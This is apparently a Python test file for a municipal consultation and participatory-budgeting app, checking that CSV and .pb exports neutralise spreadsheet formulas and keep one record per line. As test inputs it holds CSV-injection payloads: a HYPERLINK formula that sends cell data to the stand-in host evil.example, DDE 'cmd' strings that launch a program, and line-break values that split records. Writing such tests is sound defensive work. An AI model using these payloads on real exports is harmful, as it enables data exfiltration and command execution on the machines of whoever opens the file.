"""Exports opened in a spreadsheet run nothing, and a ``.pb`` file keeps one record per line, whatever
residents typed (issue 12, item 11)."""

from __future__ import annotations

import csv
import io

import httpx
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from core.spreadsheet import neutralise, single_line
from participation.tally.pabulib import parse_pabulib_text
from tests.conftest import World, bearer
from tests.participation.support_rounds import BASE, admin, round_with_projects, set_phase, verify

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_cells_are_neutralised_but_numbers_stay_numbers() -> None:
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [neutralise(v) for v in ("-5", "+31", "3.5", "-0,5", 7, None, "Een idee")] == [
        "-5",
        "+31",
        "3.5",
        "-0,5",
        7,
        None,
        "Een idee",
    ]
    assert neutralise("\tTAB") == "'\tTAB" and neutralise("\uff1dSUM(1)") == "'\uff1dSUM(1)"
    assert single_line("a\r\nb\tc\u2028d") == "a b c d"


async def test_the_consultation_csv_runs_no_formula(pclient: httpx.AsyncClient, world: World) -> None:
    created = await pclient.post(
        f"{BASE}/consultations",
        headers=admin(world),
        json={
            "title": "Plein",
            "rounds": [
                {
                    "title": "Ideeën",
                    "area_id": world.areas["Dam"],
                    "questions": [{"kind": "free_text", "prompt": f"Idee {i}?"} for i in range(len(PAYLOADS))]
                    + [{"kind": "single_choice", "prompt": "Keuze?", "options": ["=1+1", "nee"]}],
                }
            ],
        },
    )
    assert created.status_code == 201, created.text
    round_ = created.json()["rounds"][0]
    questions = [q["id"] for q in round_["questions"]]
    await pclient.post(
        f"{BASE}/consultation-rounds/{round_['id']}/status", headers=admin(world), json={"to": "open"}
    )
    await verify(pclient, world, world.accounts["resident"])
    answers = [{"question_id": q, "text": p} for q, p in zip(questions, PAYLOADS, strict=False)]
    answers.append({"question_id": questions[-1], "choices": ["=1+1"]})
    response = await pclient.put(
        f"{BASE}/consultation-rounds/{round_['id']}/response",
        json={"answers": answers},
        headers=bearer(world.tokens["resident"]),
    )
    assert response.status_code == 201, response.text
    export = await pclient.get(
        f"{BASE}/consultation-rounds/{round_['id']}/export.csv", headers=bearer(world.tokens["council"])
    )
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)], cells
    assert rows[1][2:] == ["'" + p for p in PAYLOADS] + ["'=1+1"]


async def test_the_pb_export_keeps_one_record_per_line_and_runs_no_formula(
    pclient: httpx.AsyncClient, world: World, session: AsyncSession
) -> None:
    round_id, ids = await round_with_projects(pclient, world)
    await session.execute(
        text("UPDATE budget_proposals SET title = :t WHERE id = :id"),
        {"t": '=HYPERLINK("http://evil.example")\r\nVOTES\nvoter_id;vote', "id": ids[0]},
    )
    await session.execute(
        text("UPDATE budget_rounds SET title = :t WHERE id = :id"),
        {"t": "+cmd|' /C calc'!A0\nx", "id": round_id},
    )
    vote = await pclient.post(
        f"{BASE}/budget-rounds/{round_id}/ballots",
        headers=bearer(world.tokens["resident"]),
        json={"projects": [ids[0]]},
    )
    assert vote.status_code == 201
    await set_phase(pclient, world, round_id, "results")
    exported = await pclient.get(f"{BASE}/budget-rounds/{round_id}/export.pb")
    assert exported.status_code == 200, exported.text
    lines = exported.text.split("\n")
    assert [line for line in lines if line in ("VOTES", "PROJECTS", "META")] == ["META", "PROJECTS", "VOTES"]
    assert "\r" not in exported.text
    cells = [cell for row in csv.reader(io.StringIO(exported.text), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)], cells
    election = parse_pabulib_text(exported.text)
    assert election.instance.projects[str(ids[0])].name.startswith("'=HYPERLINK")
    assert len(election.ballots) == 1
